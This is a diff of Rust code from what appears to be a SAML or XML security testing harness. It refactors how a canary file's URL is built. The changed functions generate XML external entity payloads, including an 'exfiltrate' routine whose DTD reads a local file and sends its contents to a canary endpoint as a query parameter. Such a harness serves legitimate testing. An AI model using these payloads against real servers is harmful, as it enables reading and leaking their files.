@@ -111,7 +111,7 @@ pub fn local_xinclude(f: &Forge) -> Result<Forged, Skip> {
 
 /// The check's local file as a `file:` URL.
 fn watched_file(f: &Forge) -> Result<String, Skip> {
-    Ok(format!("file://{}", f.canary()?.file))
+    Ok(f.canary()?.file_url())
 }
 
 /// `xml`, whose work is to make the SP open the check's local file, which the harness
@@ -150,10 +150,10 @@ fn external_dtd_at(f: &Forge, url: &str) -> Result<String, Skip> {
 /// (a file with a newline, `/etc/hostname` say, makes libxml2 refuse the URL, so the harness
 /// writes one without).
 pub fn exfiltrate(f: &Forge) -> Result<Forged, Skip> {
-    let (canary, file) = (&f.canary()?.prefix, &f.canary()?.file);
+    let (canary, file) = (&f.canary()?.prefix, f.canary()?.file_url());
     let (root, xml) = bare(f)?;
     let dtd = format!(
-        "<!ENTITY % file SYSTEM \"file://{file}\">\n\
+        "<!ENTITY % file SYSTEM \"{file}\">\n\
          <!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{canary}/{EXFILTRATION_PATH}?content=%file;'>\">\n\
          %wrap;\n%send;\n"
     );
